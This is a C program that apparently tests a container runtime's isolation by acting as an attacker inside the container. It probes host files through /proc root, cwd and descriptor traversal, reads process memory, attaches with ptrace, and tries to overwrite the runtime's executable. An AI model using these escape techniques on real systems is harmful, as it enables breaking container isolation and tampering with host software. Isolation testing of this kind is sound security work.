// A container's process that waits for others in its PID namespace, and tries to get at the host through them:
// attacker MARKER STOP, where MARKER is the path of a file of the host's, and STOP a file that ends it.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define MOST 65536
static char seen[MOST];
static int held[1024];
static int count, others, stages;

static int isRuntime(const char *link) {
  char text[4096];
  ssize_t size = readlink(link, text, sizeof text - 1);
  text[size < 0 ? 0 : size] = 0;
  return strstr(text, "containerize-runtime") != NULL;
}

static void makeWritable(int fd) {
  unsigned long long attributes[4] = {0, 1, 0, 0};
  syscall(442, fd, "", 0x1000, attributes, sizeof attributes);
}

static void append(int fd, const char *when) {
  char path[64];
  sprintf(path, "/proc/self/fd/%d", fd);
  if (!isRuntime(path)) return;
  makeWritable(fd);
  int out = open(path, O_WRONLY | O_APPEND);
  if (out >= 0 && write(out, "X", 1) == 1) printf("BREACH wrote to the executable %s\n", when);
  if (out >= 0) close(out);
}

static void look(int pid, const char *marker) {
  char path[4096], exe[64];
  sprintf(exe, "/proc/%d/exe", pid);
  int fd = open(exe, O_PATH);
  if (fd >= 0 && isRuntime(exe)) {
    stages++;
    append(fd, "while it ran");
    if (count < 1024) held[count++] = fd; else close(fd);
  } else if (fd >= 0) close(fd);

  snprintf(path, sizeof path, "/proc/%d/root%s", pid, marker);
  if (access(path, F_OK) == 0) printf("BREACH host file through root\n");
  snprintf(path, sizeof path, "/proc/%d/cwd%s", pid, marker);
  if (access(path, F_OK) == 0) printf("BREACH host file through cwd\n");

  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *fds = opendir(path);
  if (fds != NULL) {
    if (isRuntime(exe)) printf("READ descriptors\n");
    for (struct dirent *entry; (entry = readdir(fds)) != NULL;) {
      char file[4200];
      snprintf(file, sizeof file, "/proc/%d/fd/%s/../../../../../../../../%s", pid, entry->d_name, marker);
      if (entry->d_name[0] != '.' && access(file, F_OK) == 0) printf("BREACH host file through a descriptor\n");
    }
    closedir(fds);
  }

  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int memory = open(path, O_RDONLY);
  if (memory >= 0) {
    if (isRuntime(exe)) printf("READ memory\n");
    close(memory);
  }

  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
    if (isRuntime(exe)) printf("READ by tracing\n");
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  printf("watching\n");
  while (access(argv[2], F_OK) != 0) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
      int pid = atoi(entry->d_name);
      if (pid <= 1 || pid == getpid() || pid >= MOST) continue;
      if (!seen[pid]) others++;
      seen[pid] = 1;
      look(pid, argv[1]);
    }
    closedir(proc);
  }

  for (int i = 0; i < count; i++) append(held[i], "when it had ended");
  printf("others %d\nexecutables %d\nstages %d\n", others, count, stages);
  return 0;
}
